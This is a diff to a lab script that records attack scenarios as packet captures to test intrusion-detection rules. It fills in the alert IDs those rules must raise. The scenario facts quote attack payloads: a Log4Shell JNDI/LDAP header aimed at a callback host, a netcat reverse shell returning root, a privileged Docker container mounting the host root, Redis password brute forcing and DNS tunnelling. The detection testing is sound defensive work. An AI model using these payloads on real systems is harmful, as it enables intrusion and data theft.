@@ -7,8 +7,8 @@
 #
 # Each scenario is recorded with tcpdump on node A's bridge (cn-br0 in cn-nodeA, promiscuous, so
 # it sees same-node traffic and node A's side of cross-node traffic) into pcaps/lab/NAME.pcap,
-# and described in pcaps/lab/NAME.expected.json (pods, addresses, ports, protocol, facts; the
-# "alerts" list is filled in once the shipped rules for these scenarios exist). log4shell also
+# and described in pcaps/lab/NAME.expected.json (pods, addresses, ports, protocol, facts, and the
+# alerts the shipped rules must raise on a replay of NAME.pcap — LabCapturesTest checks them). log4shell also
 # records the cross-node request on node A's VXLAN device (NAME-overlay.pcap, decapsulated) and
 # on the underlay veth (NAME-underlay.pcap, UDP 8472 with the VXLAN header).
 #
@@ -106,7 +106,7 @@ sc_log4shell() {
   ],
   "facts": {"http_requests": 2, "method": "GET", "uri": "/", "header": "X-Api-Version: \${jndi:ldap://10.244.2.5:1389/a}", "ldap_callback_target": "10.244.2.5:1389", "http_status": 200,
             "overlay": {"vni": 1, "udp_port": 8472, "outer_src": "192.168.56.11", "outer_dst": "192.168.56.10"}},
-  "alerts": []
+  "alerts": [{"sid": 9100001, "count": 2}]
 }
 JSON
 }
@@ -135,7 +135,7 @@ sc_reverse_shell() {
   ],
   "facts": {"listener": "nc -l 10.244.2.5 4444 (cn-b-evil)", "shell": "sh -i piped to nc -N 10.244.2.5 4444 (cn-a-web)",
             "commands_sent": ["id", "uname -a", "exit"], "output_contains": "uid=0(root) gid=0(root)"},
-  "alerts": []
+  "alerts": [{"sid": 9100201, "count": 1}]
 }
 JSON
 }
@@ -191,7 +191,7 @@ sc_redis_bruteforce() {
   ],
   "facts": {"connections": 7, "failed_auth": 11, "failed_auth_reply": "-WRONGPASS invalid username-password pair or user is disabled.",
             "successful_auth": 1, "after_success": "CONFIG GET dir", "password": "$REDIS_PASS"},
-  "alerts": []
+  "alerts": [{"sid": 9100501, "count": 1}]
 }
 JSON
 }
@@ -218,7 +218,7 @@ sc_docker_api() {
   ],
   "facts": {"requests": ["GET /_ping", "POST /v1.41/containers/create", "POST /v1.41/containers/4f1c0ffee0dd/start"],
             "create_status": 201, "start_status": 204, "body_has": ["\"Privileged\":true", "\"Binds\":[\"/:/host\"]"]},
-  "alerts": []
+  "alerts": [{"sid": 9100101, "count": 1}]
 }
 JSON
 }
@@ -251,7 +251,7 @@ sc_dns_tunnel() {
   ],
   "facts": {"queries": $((i + 1)), "qtype": ["A", "TXT"], "domain": "tunnel.cn-lab.test", "label_length": 50, "encoding": "base32 lowercase",
             "answer": "10.244.1.99"},
-  "alerts": []
+  "alerts": [{"sid": 9100403, "count": 3}]
 }
 JSON
 }
